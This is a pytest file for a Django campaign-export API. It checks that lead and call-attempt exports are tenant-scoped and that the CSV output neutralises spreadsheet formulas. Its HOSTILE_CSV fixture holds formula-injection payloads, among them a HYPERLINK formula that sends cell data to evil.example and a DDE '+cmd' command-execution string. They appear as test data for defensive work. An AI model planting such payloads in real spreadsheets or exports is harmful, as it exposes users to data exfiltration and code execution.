"""``GET /api/v1/campaigns/{id}/export``: a campaign's results as CSV, one row per lead, tenant-scoped,
with every spreadsheet formula neutralised and phone numbers kept exact."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from typing import Any

import pytest
from django.utils import timezone
from rest_framework.test import APIClient

from campaigns.exports import RESULT_COLUMNS
from campaigns.models import CallAttempt, Lead
from campaigns.services.imports import leads_import_csv
from tenants.models import Membership
from tests.campaigns.factories import make_campaign, make_tenant, make_user
from tests.campaigns.test_api import API, api_client

pytestmark = pytest.mark.django_db

HOSTILE_CSV = (
    "phone_number,name,company\n"
    '+12125550101,"=HYPERLINK(""https://evil.example/?""&A1,""Click"")",Acme\n'
    "+12125550102,+cmd|' /C calc'!A0,@SUM(1+1)\n"
    "+12125550103,-2+3,\t=1+1\n"
    "+12125550104,Zoë Ünicode,Plain\n"
)


def _rows(response: Any) -> list[dict[str, str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_the_export_lists_every_lead_with_its_results_and_neutralises_formulas():
    tenant = make_tenant()
    campaign = make_campaign(tenant)
    leads_import_csv(campaign=campaign, data=HOSTILE_CSV)
    first = Lead.objects.get(campaign=campaign, contact__phone_number="+12125550101")
    Lead.objects.filter(pk=first.pk).update(attempts=2, last_outcome="answered")
    placed = timezone.now() - timedelta(hours=1)
    for minutes, disposition in ((0, "interested"), (30, "")):
        CallAttempt.objects.create(
            tenant=tenant,
            campaign=campaign,
            lead=first,
            number=first.contact.phone_number,
            state="ended",
            outcome="answered",
            disposition=disposition,
            queued_at=placed + timedelta(minutes=minutes),
            originated_at=placed + timedelta(minutes=minutes, seconds=1),
            transferred_to="+12125550198" if minutes == 0 else "",
        )

    response = api_client(tenant).get(f"{API}/campaigns/{campaign.pk}/export")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert f"campaign-{campaign.pk}-results.csv" in response["Content-Disposition"]
    rows = _rows(response)
    assert list(rows[0]) == list(RESULT_COLUMNS)
    by_number = {row["phone_number"]: row for row in rows}
    # Phone numbers are exact: a program reading the file gets the stored E.164 value.
    assert sorted(by_number) == ["+12125550101", "+12125550102", "+12125550103", "+12125550104"]
    assert by_number["+12125550101"]["name"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
    assert by_number["+12125550102"]["name"] == "'+cmd|' /C calc'!A0"
    assert by_number["+12125550103"]["name"] == "'-2+3"
    assert by_number["+12125550104"]["name"] == "Zoë Ünicode"
    for row in rows:  # no cell a spreadsheet would run
        for value in row.values():
            assert not value.startswith(("=", "@", "\t", "\r")) and not value.startswith(("+c", "-2"))
    ann = by_number["+12125550101"]
    assert (ann["status"], ann["attempts"], ann["last_outcome"]) == ("waiting", "2", "answered")
    # The latest attempt's time; the latest non-empty disposition and transfer.
    assert ann["last_call_at"].startswith((placed + timedelta(minutes=30, seconds=1)).isoformat()[:19])
    assert (ann["disposition"], ann["transferred_to"]) == ("interested", "+12125550198")
    assert by_number["+12125550102"]["last_call_at"] == ""


def test_the_export_is_the_tenants_and_readable_by_a_viewer():
    tenant, other = make_tenant(), make_tenant()
    campaign = make_campaign(tenant)
    leads_import_csv(campaign=campaign, data="phone_number\n+12125550101\n")
    foreign = make_campaign(other)
    leads_import_csv(campaign=foreign, data="phone_number\n+12125550109\n")
    assert api_client(tenant).get(f"{API}/campaigns/{foreign.pk}/export").status_code == 404

    viewer = make_user()
    Membership.objects.create(tenant=tenant, user=viewer, role=Membership.Role.VIEWER)
    client = APIClient()
    client.force_login(viewer)
    response = client.get(f"{API}/campaigns/{campaign.pk}/export", HTTP_ACCEPT="text/csv")
    assert response.status_code == 200
    assert [row["phone_number"] for row in _rows(response)] == ["+12125550101"]


def test_errors_of_the_export_are_json_whatever_the_client_accepts():
    tenant = make_tenant()
    response = api_client(tenant).get(f"{API}/campaigns/999999/export", HTTP_ACCEPT="text/csv")
    assert (response.status_code, response["Content-Type"]) == (404, "application/json")


# ------------------------------------------------------------------------------- attempts, JSON, results
def _text(response: Any) -> str:
    return b"".join(response.streaming_content).decode("utf-8")


def _campaign_with_results() -> tuple[Any, Any, list[CallAttempt]]:
    tenant = make_tenant()
    campaign = make_campaign(
        tenant,
        result_fields=[
            {"name": "interested", "type": "boolean"},
            {"name": "budget", "type": "number"},
            {"name": "notes", "type": "text"},
        ],
    )
    leads_import_csv(campaign=campaign, data="phone_number,name\n+12125550101,Ann\n+12125550102,=Bob\n")
    lead = Lead.objects.get(campaign=campaign, contact__phone_number="+12125550101")
    placed = timezone.now() - timedelta(hours=1)
    attempts = [
        CallAttempt.objects.create(
            tenant=tenant,
            campaign=campaign,
            lead=lead,
            number="+12125550101",
            state="ended",
            outcome=outcome,
            queued_at=placed + timedelta(minutes=minutes),
            results=results,
            summary=summary,
        )  # fmt: skip
        for minutes, outcome, results, summary in (
            (0, "no_answer", {}, ""),
            (30, "answered", {"interested": True, "budget": 5000, "notes": "=HYPERLINK(1)"}, "Wants a demo."),
        )
    ]
    return tenant, campaign, attempts


def test_the_attempts_export_as_csv_has_the_result_columns_neutralised():
    tenant, campaign, attempts = _campaign_with_results()
    response = api_client(tenant).get(f"{API}/campaigns/{campaign.pk}/export?of=attempts")
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    assert f"campaign-{campaign.pk}-attempts.csv" in response["Content-Disposition"]
    rows = _rows(response)
    assert list(rows[0])[-4:] == ["summary", "result_interested", "result_budget", "result_notes"]
    assert [row["attempt_id"] for row in rows] == [str(a.pk) for a in attempts]
    answered = rows[1]
    assert (answered["outcome"], answered["name"], answered["summary"]) == (
        "answered",
        "Ann",
        "Wants a demo.",
    )
    assert (answered["result_interested"], answered["result_budget"]) == ("true", "5000")
    assert answered["result_notes"] == "'=HYPERLINK(1)"
    assert rows[0]["result_interested"] == ""

    leads = {
        row["phone_number"]: row
        for row in _rows(api_client(tenant).get(f"{API}/campaigns/{campaign.pk}/export"))
    }
    assert (
        leads["+12125550101"]["summary"] == "Wants a demo."
        and leads["+12125550101"]["result_budget"] == "5000"
    )
    assert leads["+12125550102"]["name"] == "'=Bob" and leads["+12125550102"]["result_budget"] == ""


def test_json_lines_and_json_array_exports():
    tenant, campaign, attempts = _campaign_with_results()
    client = api_client(tenant)
    lines = client.get(f"{API}/campaigns/{campaign.pk}/export?of=attempts&format=jsonl")
    assert lines.status_code == 200 and lines["Content-Type"] == "application/x-ndjson"
    objects = [json.loads(line) for line in _text(lines).splitlines()]
    assert [o["attempt_id"] for o in objects] == [str(a.pk) for a in attempts]
    assert objects[1]["results"] == {"interested": True, "budget": 5000, "notes": "=HYPERLINK(1)"}
    assert objects[0]["results"] == {} and objects[1]["summary"] == "Wants a demo."

    array = client.get(f"{API}/campaigns/{campaign.pk}/export?of=leads&format=json")
    assert array["Content-Type"] == "application/json"
    leads = json.loads(_text(array))
    assert [lead["phone_number"] for lead in leads] == ["+12125550101", "+12125550102"]
    assert leads[0]["results"]["budget"] == 5000 and leads[1]["results"] == {}
    assert leads[1]["name"] == "=Bob"  # JSON is data, not a spreadsheet: exact

    empty = make_campaign(tenant)
    assert json.loads(_text(client.get(f"{API}/campaigns/{empty.pk}/export?format=json"))) == []


def test_export_parameters_are_checked_and_a_foreign_campaign_is_404():
    tenant, campaign, _ = _campaign_with_results()
    client = api_client(tenant)
    bad = client.get(f"{API}/campaigns/{campaign.pk}/export?of=calls&format=xml")
    assert bad.status_code == 400 and set(bad.json()) == {"of", "format"}
    _, foreign, _ = _campaign_with_results()
    assert client.get(f"{API}/campaigns/{foreign.pk}/export?of=attempts&format=jsonl").status_code == 404
